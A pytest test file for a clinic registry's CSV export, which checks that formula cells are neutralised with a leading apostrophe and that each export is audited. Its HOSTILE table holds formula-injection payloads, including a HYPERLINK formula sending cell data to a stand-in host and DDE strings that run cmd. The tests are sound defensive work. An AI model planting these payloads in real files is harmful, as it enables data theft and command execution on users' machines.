"""Exports leave one audit entry each (issue 12, D15), and no CSV cell runs as a spreadsheet
formula (D5): text beginning with = + - @ tab or carriage return gets a leading apostrophe;
numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from typer.testing import CliRunner

from bontrack.analytics.trials import load_trials, trials_csv
from bontrack.audit.models import AuditEntry
from bontrack.cli import app
from bontrack.csv_cells import safe_cell
from bontrack.patients import service as patients
from bontrack.patients.schemas import PatientCreate
from bontrack.storage.engine import transaction
from factories import ACTOR, clinic_world

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(
    ("value", "written"), [*HOSTILE.items(), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-3", "1e-3")]
)
def test_safe_cell__formulas_become_text_and_numbers_stay_numbers(value: str, written: str) -> None:
    assert safe_cell(value) == written
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell("Ní Bhriain") == "Ní Bhriain"


def _hostile_registry(engine: Engine) -> list[str]:
    with transaction(engine) as db:
        world = clinic_world(db)
        for number, name in enumerate(HOSTILE):
            patients.create_patient(
                db=db,
                actor=ACTOR,
                clinic_id=world.clinic_id,
                data=PatientCreate(
                    record_number=f"-{number}", name=name, birth_date=dt.date(1970, 1, 1), sex="female"
                ),
            )
    return list(HOSTILE)


def _run(db_url: str, *args: str) -> None:
    result = CliRunner().invoke(app, ["--db", db_url, "--actor", "auditor:ann", *args])
    assert result.exit_code == 0, result.output + result.stderr


def test_export_csv__hostile_cells_are_neutralised_and_numbers_stay_numbers(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    _hostile_registry(engine)
    _run(db_url, "export", "--format", "csv", str(tmp_path / "out"))
    with (tmp_path / "out" / "patient.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    names = {r["name"] for r in rows}
    assert {safe_cell(n.strip()) for n in HOSTILE} <= names  # names are stored stripped
    assert all(n.startswith("'") for n in names - {"Test Patient"})
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), (column, cell)
    # a record number "-3" is text in the registry: it reads as the number it looks like, unchanged
    assert {r["record_number"] for r in rows} >= {"-0", "-1", "-5"}
    with (tmp_path / "out" / "screening.csv").open(newline="", encoding="utf-8") as f:
        versions = {r["version"] for r in csv.DictReader(f)}
    assert versions == {"1"}
    with (tmp_path / "out" / "data_dictionary.csv").open(newline="", encoding="utf-8") as f:
        notes = [r["description"] for r in csv.DictReader(f) if r["file"] == "(every file)"]
    assert notes and "apostrophe" in notes[0] and "=, +, -, @" in notes[0]


def test_trials_csv__numbers_stay_numbers() -> None:
    text = trials_csv(load_trials(), outcome="responders_wk5")
    assert "'" not in text and text.splitlines()[1].split(",")[1].isdigit()


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_export__leaves_one_audit_entry_saying_who_what_and_how_many(
    engine: Engine, db_url: str, tmp_path: Path, form: str
) -> None:
    _hostile_registry(engine)
    with transaction(engine) as db:
        before = db.scalar(select(AuditEntry.seq).order_by(AuditEntry.seq.desc()).limit(1))
    target = tmp_path / ("out.jsonl" if form == "jsonl" else "out")
    _run(db_url, "export", "--format", form, str(target))
    with transaction(engine) as db:
        (entry,) = db.scalars(select(AuditEntry).where(AuditEntry.seq > before)).all()
    assert (entry.actor, entry.action, entry.outcome) == ("auditor:ann", "export", "ok")
    assert entry.at is not None and entry.after is not None
    total = 1 + 1 + 1 + len(HOSTILE) + 1 + 1 + 1 + 1  # clinic, clinician, patients, episode, ...
    assert entry.after["form"] == form and entry.after["destination"] == str(target)
    assert entry.after["by_type"]["patient"] == 1 + len(HOSTILE)
    assert entry.after["versions"] == sum(entry.after["by_type"].values()) >= total - 2
    assert entry.detail is not None and f"{entry.after['versions']} record versions" in entry.detail
